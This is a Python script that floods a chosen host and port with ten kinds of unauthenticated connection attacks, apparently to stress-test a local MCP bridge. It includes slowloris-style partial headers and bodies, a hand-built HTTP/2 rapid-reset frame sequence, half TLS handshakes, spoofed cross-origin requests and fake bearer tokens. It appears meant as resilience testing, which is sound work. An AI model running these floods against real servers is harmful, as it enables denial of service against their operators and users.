"""Ten floods without a credential: `python flooding.py KIND HOST PORT SECONDS [RATE]`.

Each opens at most RATE connections in a second (2000), holds at most 800 of them open, and uses one core at most. The word
`flooding` is printed after some connections were opened, and their number at the end. Standard library only.
"""

import collections
import concurrent.futures
import contextlib
import itertools
import os
import signal
import socket
import ssl
import sys
import time

CONTEXT = ssl.create_default_context()
CONTEXT.check_hostname, CONTEXT.verify_mode = False, ssl.CERT_NONE
CONTEXT.set_alpn_protocols(["h2"])
HELD = 800
BEGUN = 100
WRONG = b"Authorization: Bearer mcpb_" + b"x" * 43 + b"\r\n"


def head(host, target=b"/mcp", method=b"POST", more=b"", named=None):
    return b"%b %b HTTP/1.1\r\nHost: %b\r\n%b\r\n" % (method, target, named or host, more)


def client_hello():
    """Return the first flight of a TLS client."""
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2", "http/1.1"])
    outgoing = ssl.MemoryBIO()
    client = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return outgoing.read()


def resets(count=100):
    """Return the bytes of an HTTP/2 client that opens streams and resets them at once, without a credential."""
    # GET, http, /, and an authority (RFC 7541, appendix A).
    block = b"\x82\x86\x84\x41\x09localhost"
    frames = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"]
    for number in range(count):
        stream = (2 * number + 1).to_bytes(4, "big")
        frames.append(len(block).to_bytes(3, "big") + b"\x01\x05" + stream + block)
        frames.append(b"\x00\x00\x04\x03\x00" + stream + b"\x00\x00\x00\x08")
    return b"".join(frames)


def payloads(kind, host):
    """Return the payloads that the connections of a flood send in turn."""
    foreign = b"evil.example"
    page = b"Origin: http://evil.example\r\nSec-Fetch-Site: cross-site\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n"
    upgrade = (
        b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Protocol: mcp\r\n"
    )
    hello = client_hello()
    found = {
        "silent": [b""],
        "handshakes": [hello, hello[: len(hello) // 2]],
        "refused": [
            head(host, named=foreign),
            head(host, more=b"Origin: http://evil.example\r\n"),
            head(host, b"/nothing"),
        ],
        "heads": [head(host)[:-2]],
        "bodies": [head(host, more=b"Content-Type: application/json\r\nContent-Length: 4000000\r\n") + b"{"],
        "resets": [resets()],
        "upgrades": [head(host, b"/ws", b"GET", upgrade)],
        "tokens": [head(host, more=WRONG)],
        "pages": [head(host, b"/", b"GET", page)],
        "reconnects": [b""],
    }
    return itertools.cycle(found[kind])


def connections(kind, address):
    """Open one connection after the other, and send. Yield None for a connection that failed."""
    data = payloads(kind, b"%b:%d" % (address[0].encode(), address[1]))
    if kind == "resets":
        with concurrent.futures.ThreadPoolExecutor(16) as pool:
            # Concurrent handshakes, because each handshake waits for the bridge.
            while True:
                yield from pool.map(lambda _: connected(address, next(data), over_tls=True), range(64))
    while True:
        yield connected(address, next(data))


def connected(address, data, *, over_tls=False):
    sock = socket.socket()
    try:
        sock.settimeout(2)
        sock.connect(address)
        if over_tls:
            sock = CONTEXT.wrap_socket(sock)
        sock.sendall(data)
        sock.setblocking(False)
    except OSError:
        sock.close()
        return None
    return sock


def trickle(held):
    """Send one more byte on a few of the open connections."""
    for sock in itertools.islice(held, 0, None, 50):
        with contextlib.suppress(OSError):
            sock.send(b"x")


def main():
    kind, host, port, seconds = sys.argv[1:5]
    rate = float(sys.argv[5]) if sys.argv[5:] else 2000
    held = collections.deque()
    began = time.monotonic()
    opened = failed = 0
    stop = []
    signal.signal(signal.SIGINT, lambda *_: stop.append(True))
    for sock in connections(kind, (host, int(port))):
        now = time.monotonic() - began
        opened, failed = opened + (sock is not None), failed + (sock is None)
        if sock is not None:
            held.append(sock)
        while len(held) > (0 if kind == "reconnects" else HELD):
            held.popleft().close()
        if kind in ("heads", "bodies") and opened % 50 == 0:
            trickle(held)
        if opened + failed == (BEGUN if kind != "resets" else BEGUN // 4):
            print("flooding", flush=True)
        if stop or now > float(seconds) or os.getppid() == 1:
            break
        if (ahead := (opened + failed) / rate - now) > 0.002:
            time.sleep(ahead)
    print(f"{opened} connections, {failed} failed, {opened / now:.0f}/s", flush=True)


if __name__ == "__main__":
    main()
